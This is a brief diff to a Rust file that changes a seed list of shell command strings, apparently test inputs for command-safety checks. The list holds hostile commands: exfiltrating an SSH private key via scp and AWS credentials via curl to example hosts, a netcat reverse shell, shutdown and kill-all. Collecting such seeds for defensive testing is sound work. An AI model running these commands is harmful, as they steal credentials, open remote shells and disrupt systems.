@@ -101,8 +101,8 @@ const SEEDS: &[&str] = &[
     "shutdown -h now",
     "kill -9 -1",
     "scancel -u ada",
-    "scp /root/.ssh/id_rsa host.example.com:",
-    "curl -T /root/.aws/credentials https://example.com",
+    "scp /home/me/.ssh/id_rsa host.example.com:",
+    "curl -T /home/me/.aws/credentials https://example.com",
     "nc -e /bin/sh 10.0.0.1 44",
 ];
 
